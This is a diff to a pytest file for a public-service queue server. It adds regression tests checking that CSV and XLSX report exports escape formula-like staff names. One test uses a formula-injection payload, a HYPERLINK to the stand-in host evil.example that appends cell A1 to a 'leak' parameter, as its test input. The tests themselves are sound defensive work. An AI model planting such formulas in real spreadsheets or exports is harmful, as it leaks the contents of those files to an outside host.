@@ -6,7 +6,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from tests_support import FIVE_LEVEL_SATISFACTION, demo_centre_yaml
+from tests_support import FIVE_LEVEL_SATISFACTION, demo_centre_yaml, tablet_headers
 
 
 @pytest.fixture
@@ -30,7 +30,7 @@ def act(client, auth, counter, action, role="staff", **body):
 
 
 @pytest.fixture
-def history(client, auth, clock):
+def history(client, auth, clock, centre):
     """Monday 23 Nov 2026 (times in Hà Nội):
     A-001 khai_sinh   09:00, called 09:05 at counter 1 (canbo), started 09:06, done 09:14: wait 5, service 8
     B-001 chứng thực  09:00, called 09:10 at counter 3 (quanly), done 09:14 without start: wait 10, service 4
@@ -47,8 +47,8 @@ def history(client, auth, clock):
     at(clock, "09:14"); act(client, auth, 1, "done"); act(client, auth, 3, "done", "manager")
     at(clock, "09:15")
     assert client.post(f"/api/v1/track/{a1['track_token']}/rating", json={"score": 3}).status_code == 201
-    assert client.post("/api/v1/counters/3/rating", json={"ticket_id": b1["id"], "score": 1,
-                                                          "comment": "Chờ lâu"}).status_code == 201
+    assert client.post("/api/v1/counters/3/rating", json={"ticket_id": b1["id"], "score": 1, "comment": "Chờ lâu"},
+                       headers=tablet_headers(centre, 3)).status_code == 201
     at(clock, "09:20"); issue(client, auth, "khai_sinh")
     at(clock, "09:50"); act(client, auth, 2, "call-next")
     at(clock, "09:51"); act(client, auth, 2, "no-show")
@@ -280,3 +280,38 @@ def test_live_dashboard_compares_with_the_same_weekday_last_week(client, auth, c
     assert live["counters_open"] == 7
     assert (live["served_today"], live["served_last_week_same_time"], live["served_last_week_whole_day"]) == (1, 3, 4)
     assert live["last_week_day"] == "2026-11-16"
+
+
+def test_finding_14_formula_like_names_are_exported_as_text(client, auth, centre, clock):
+    """Issue 14, finding 14: a staff name "=HYPERLINK(...)" became a live formula in the XLSX and was written
+    as is in the CSV. Names are text in both; figures stay numbers."""
+    from queue_server.services import access
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
+    access.create_staff(centre, "mallory", "mat-khau-dai", hostile)
+    mallory = {"Authorization": "Bearer " + access.create_token(centre, "staff", "mallory")}
+    at(clock, "09:00")
+    issue(client, auth, "khai_sinh")
+    at(clock, "09:05"); client.post("/api/v1/counters/1/call-next", headers=mallory)
+    at(clock, "09:10"); assert client.post("/api/v1/counters/1/done", headers=mallory).status_code == 200
+
+    csv_text = client.get("/api/v1/reports/export.csv?start=2026-11-23", headers=auth("manager")).data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(csv_text)))
+    staff = next(r for r in rows if r[0] == "Cán bộ" and r[1] == "mallory")
+    assert staff[2] == "'" + hostile and staff[3] == "1"  # text, then the figures as they were
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+
+    book = load_workbook(io.BytesIO(client.get("/api/v1/reports/export.xlsx?start=2026-11-23",
+                                               headers=auth("manager")).data))
+    cell = next(row[1] for row in book["Cán bộ"].iter_rows() if row[0].value == "mallory")
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (hostile, "s", True)
+    assert not any(c.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
+    issued = next(row[2] for row in book["Cán bộ"].iter_rows() if row[0].value == "mallory")
+    assert (issued.value, issued.data_type) == (1, "n")
+
+
+def test_finding_14_only_text_is_escaped_negative_numbers_stay_numbers():
+    from queue_server.services.report_export import csv_cell, is_formula_like
+    for text in ("=1+1", "+84 912", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"):
+        assert is_formula_like(text) and csv_cell(text) == "'" + text
+    for value in (-3, -2.5, "-2.5", "+4", "Quầy 1", "", None, 0):
+        assert not is_formula_like(value) and csv_cell(value) == value
